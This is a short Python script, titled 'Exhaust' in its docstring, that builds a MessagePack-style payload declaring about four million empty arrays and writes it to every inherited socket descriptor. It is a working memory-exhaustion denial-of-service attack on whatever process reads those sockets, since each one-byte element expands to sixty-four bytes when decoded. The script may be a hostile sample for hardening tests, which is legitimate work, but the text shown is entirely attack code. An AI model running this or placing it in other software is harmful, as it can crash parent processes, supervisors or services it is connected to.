"""Exhaust: a reply of four million empty lists, one byte each on the way, sixty-four once read."""

import os
import stat
import struct

count = 4 * 2**20
packed = b"\xdd" + struct.pack(">I", count) + b"\x90" * count
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            whole = struct.pack("<I", len(packed)) + packed
            while whole:
                whole = whole[os.write(fd, whole) :]
    except OSError:
        pass
